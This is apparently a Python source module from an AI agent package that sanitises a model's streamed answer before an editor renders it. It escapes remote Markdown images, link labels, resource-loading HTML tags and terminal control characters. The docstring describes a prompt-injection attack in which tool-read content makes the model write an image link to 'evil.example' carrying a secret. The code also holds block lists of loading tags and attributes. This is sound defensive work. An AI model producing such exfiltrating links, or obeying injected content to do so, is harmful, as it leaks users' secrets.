r"""Keep an editor from loading the pictures, frames, scripts and styles that the text of an answer refers to.

A page or a file that a tool has read can make the model write `![](https://evil.example/?q=<secret>)`. An editor that
renders this sends the secret (CVE-2025-54132). Therefore a backslash is inserted into everything that a Markdown
renderer would load from elsewhere. The renderer then shows it as text:

    ![alt](https://…)    ![alt]\(https://…)     the `![` may be far before, but in the same paragraph
    [label]: https://…   [label]\: https://…    a picture may name the label
    <img src="https://…">    <\img src="https://…">     many renderers pass HTML through

Local pictures (`![](img/x.png)`, `data:`) stay, and so do links, which open only when the user clicks, and tags that
load nothing (`<b>`, `<a href=…>`), `List<String>` and `<https://…>`.

Code blocks do not protect Markdown pictures, because renderers disagree about where one ends. They protect HTML only if
every renderer agrees: the fence begins in the first column with a language and after no other tag, and ends with a line
of only its own characters. After anything else that looks like a fence no later fence is trusted.
"""

import re
from enum import Enum, auto
from typing import Final

from acp_agent.text import lazy_regex

_LOADING: Final = frozenset(
    (
        *("applet", "audio", "base", "bgsound", "embed", "feimage", "frame", "frameset", "iframe", "image", "img"),
        *("input", "link", "meta", "object", "picture", "portal", "script", "source", "style", "svg", "track", "use"),
        "video",
    )
)
_RAW: Final = frozenset(("listing", "noembed", "noframes", "plaintext", "pre", "textarea", "xmp"))
"""Tags that load nothing but whose content is raw, so that a fence inside them is not a fence."""
_LOADING_ATTRIBUTE: Final = lazy_regex(
    r"[\s/\"'](?:\w*src|\w*srcset|srcdoc|poster|background|data|style|xlink:href|on\w+)\s*=",
    re.IGNORECASE,
)
_LONGEST_NAME: Final = 64
_LONGEST_TAG: Final = 512
"""The longest tag, in characters. A longer one is treated as a tag that loads something."""
_LONGEST_LINE: Final = 1000
"""How many characters of a line are searched for a fence."""
_NAME: Final = lazy_regex(rf"[a-zA-Z][^\s/<>]{{0,{_LONGEST_NAME}}}")
_END_OF_TAG: Final = lazy_regex("[<>]")
_POINT: Final = lazy_regex("[\n<]")
_FENCE: Final = lazy_regex("`{3}|~{3}")
_OPENS: Final = lazy_regex(r"(?P<run>`{3,}|~{3,})[ \t]*[a-zA-Z][^`~<]*")
_CLOSES: Final = lazy_regex(r"(?P<run>`{3,}|~{3,})[ \t]*")


class _Tag(Enum):
    HARMLESS = auto()
    RAW = auto()
    LOADING = auto()


class HtmlGuard:
    """A filter of a stream that escapes tags that load something. The joined results do not depend on the chunks.

    An incomplete tag is held back, a few hundred characters at most.
    """

    def __init__(self) -> None:
        self._held = ""
        self._line = ""  # the part of the current line that was returned already
        self._fence = ""  # the characters that began the current code block; empty outside of code
        self._in_tags = False  # whether a line of the paragraph begins with a tag: a fence after it may be HTML
        self._trusts = True  # whether fences are trusted

    def feed(self, chunk: str, *, last: bool = False) -> str:
        """See `AnswerGuard.feed`."""
        text = self._held + chunk
        pieces, start, line = list[str](), 0, 0
        end = len(text)
        for found in _POINT.finditer(text):
            at = found.start()
            if found[0] == "\n":
                self._extend(text[line:at])
                self._end_line()
                line = at + 1
            elif not self._is_code(text[line:at]):
                tag = _judged(text, at + 1, is_all=last)
                if tag is None:
                    end = at
                    break
                self._trusts = self._trusts and tag is not _Tag.RAW
                if tag is _Tag.LOADING:
                    pieces += text[start : at + 1], "\\"
                    start = at + 1
        self._extend(text[line:end])
        self._held = text[end:]
        return "".join((*pieces, text[start:end]))

    def _extend(self, text: str) -> None:
        self._line = f"{self._line}{text}"[: _LONGEST_LINE + 1]
        self._trusts = self._trusts and len(self._line) <= _LONGEST_LINE

    def _is_code(self, before: str) -> bool:
        """Return whether the text of the line after `before` is code for every renderer."""
        if not self._fence or not self._trusts or len(self._line) + len(before) > _LONGEST_LINE:
            return False
        return _FENCE.search(self._line + before) is None

    def _end_line(self) -> None:
        line, self._line = self._line.removesuffix("\r"), ""
        if self._fence:
            closing = _CLOSES.fullmatch(line)
            if closing is not None and closing["run"].startswith(self._fence):
                self._fence = ""
            elif _FENCE.search(line):
                self._trusts = False
            return
        opening = _OPENS.fullmatch(line)
        if opening is not None and not self._in_tags:
            self._fence = opening["run"]
        elif _FENCE.search(line):
            self._trusts = False
        elif not line.strip():
            self._in_tags = False
        elif line.lstrip().startswith("<"):
            self._in_tags = True


def _judged(text: str, at: int, *, is_all: bool) -> _Tag | None:
    """Return what to do with the tag whose name would begin at `at`. None if more text is needed."""
    if text[at : at + 1] in ("!", "?"):  # a comment or a declaration
        return _Tag.RAW
    name = _NAME.match(text, at)
    if name is None:
        return _Tag.HARMLESS if is_all or at < len(text) else None
    if len(name[0]) > _LONGEST_NAME:
        return _Tag.LOADING
    if name.end() == len(text) and not is_all:
        return None
    word = name[0].lower()
    if word in _LOADING:
        return _Tag.LOADING
    return _by_attributes(text, name.end(), _Tag.RAW if word in _RAW else _Tag.HARMLESS, is_all=is_all)


def _by_attributes(text: str, at: int, without: _Tag, *, is_all: bool) -> _Tag | None:
    """Return what to do with a tag whose attributes begin at `at`: `without` if none of them loads anything."""
    ends = _END_OF_TAG.search(text, at, at + _LONGEST_TAG)
    is_cut = ends is None and len(text) < at + _LONGEST_TAG
    if is_cut and not is_all:
        return None
    last = len(text) if ends is None else ends.start()
    if (ends is None and not is_cut) or _LOADING_ATTRIBUTE.search(text, at, last):
        return _Tag.LOADING
    return without


_LONGEST_TARGET = 256
"""How many characters of a target are read. A target that is not known to be local by then counts as remote."""

_LONGEST_GAP = 16
"""How much white space before a target is accepted."""

_SLICE = 64 * 1024
"""How many characters are searched at once. Other threads wait meanwhile, some milliseconds."""

_PLAIN = rf"[\w./#?=@+,%~-]{{1,{_LONGEST_TARGET}}}+"
_GAP = rf"[ \t\n]{{0,{_LONGEST_GAP}}}"
_LOCAL = lazy_regex(rf"{_GAP}+<?+(?:data:|(?!//){_PLAIN}(?=[\s)>\"']|\Z)|[)>\"']|\Z)")
_OPENING = lazy_regex(r"(?P<image>!\[)|(?P<paragraph>\n[ \t]*(?=\n))|(?P<target>\]\()|(?P<label>\]:)")
_UNDECIDED = lazy_regex(rf"(?:!|\]|\n[ \t]*|\][(:]{_GAP}<?[^\s)>\"']{{0,{_LONGEST_TARGET}}})\Z")


_ACTS = r"\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069"
_ACTING = lazy_regex(f"[{_ACTS}]")
_SUSPECT = lazy_regex(rf"[<\r{_ACTS}]|\]\(|\]:")
"""Everything that one of the guards may change."""


def defused(text: str) -> str:
    """Return the text with control characters escaped and with everything escaped that a renderer would load."""
    if len(text) <= _SLICE and _SUSPECT.search(text) is None:
        return text
    guard = AnswerGuard()
    pieces = [guard.feed(text[start : start + _SLICE]) for start in range(0, len(text), _SLICE)]
    return "".join((*pieces, guard.feed("", last=True)))


_RETURNS = lazy_regex(r"\r(?!\n)")


class ControlGuard:
    r"""A filter of a stream that shows control characters as escapes. The joined results do not depend on the chunks.

    An escape sequence would control the terminal of a text client, and a bidirectional override makes code look like
    other code (CVE-2021-42574). As JSON escapes (`\u001b`) the characters stay readable.

    Tabs and line ends stay. A lone carriage return becomes a line end, so one at the end of a chunk is held back.
    """

    def __init__(self) -> None:
        self._held = ""

    def feed(self, chunk: str, *, last: bool = False) -> str:
        """See `AnswerGuard.feed`."""
        text = self._held + chunk
        self._held = "\r" if text.endswith("\r") and not last else ""
        text = _RETURNS.sub("\n", text.removesuffix(self._held))
        return _ACTING.sub(lambda found: f"\\u{ord(found[0]):04x}", text)


class AnswerGuard:
    """A filter of a stream that makes the model's text safe for an editor: control characters, HTML and pictures.

    The joined results do not depend on the chunks.
    """

    def __init__(self) -> None:
        self._guards = (ControlGuard(), HtmlGuard(), ImageGuard())
        self._begun = False

    def feed(self, chunk: str, *, last: bool = False) -> str:
        """Return the text that later chunks cannot change, maybe none. With `last`, return all that is left."""
        if not (chunk or self._begun):
            return ""
        self._begun = True
        for guard in self._guards:
            chunk = guard.feed(chunk, last=last)
        return chunk


class ImageGuard:
    """A filter of a stream that escapes pictures. The joined results do not depend on the chunks.

    An incomplete picture is held back, a few hundred characters at most.
    """

    def __init__(self) -> None:
        self._held = ""
        self._pictured = False  # whether the paragraph has a `![`

    def feed(self, chunk: str, *, last: bool = False) -> str:
        """See `AnswerGuard.feed`."""
        text = self._held + chunk
        undecided = _UNDECIDED.search(text, max(0, len(text) - _LONGEST_TARGET - _LONGEST_GAP - 8))
        end = undecided.start() if undecided and not last else len(text)
        self._held = text[end:]
        pieces, start = list[str](), 0
        for found in _OPENING.finditer(text):
            if found.start() >= end:
                break
            match found.lastgroup:
                case "image" | "paragraph":
                    self._pictured = found.lastgroup == "image"
                case _ if _LOCAL.match(text, found.end()):
                    pass
                case "target" if not self._pictured:
                    pass
                case _:
                    pieces += text[start : found.end() - 1], "\\"
                    start = found.end() - 1
        return "".join((*pieces, text[start:end]))
